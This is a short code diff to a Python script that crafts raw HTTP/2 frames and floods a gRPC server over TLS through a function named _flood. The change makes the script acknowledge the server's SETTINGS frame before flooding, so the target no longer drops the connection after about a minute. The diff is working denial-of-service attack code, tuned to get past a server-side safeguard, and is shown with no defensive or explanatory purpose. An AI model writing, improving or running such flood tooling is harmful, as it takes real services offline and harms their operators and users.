@@ -36,6 +36,7 @@ def _literal(name: bytes, value: bytes) -> bytes:
 
 
 HELLO = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(4, 0, 0, b"")
+TAKEN = _frame(4, 1, 0, b"")
 FIELDS = {
     b":method": b"POST",
     b":scheme": b"https",
@@ -75,7 +76,9 @@ def _flood(
     again, sent = again * (6 if pause_s else 64), 0
     with context.wrap_socket(socket.create_connection((host, int(port)))) as connection:
         try:
-            connection.sendall(HELLO + first)
+            connection.sendall(HELLO)
+            connection.recv(1 << 14)  # the node's settings: gRPC ends by itself what does not take them within a minute
+            connection.sendall(TAKEN + first)
             while sent < most and not over.is_set():
                 connection.sendall(again)
                 sent += len(again)
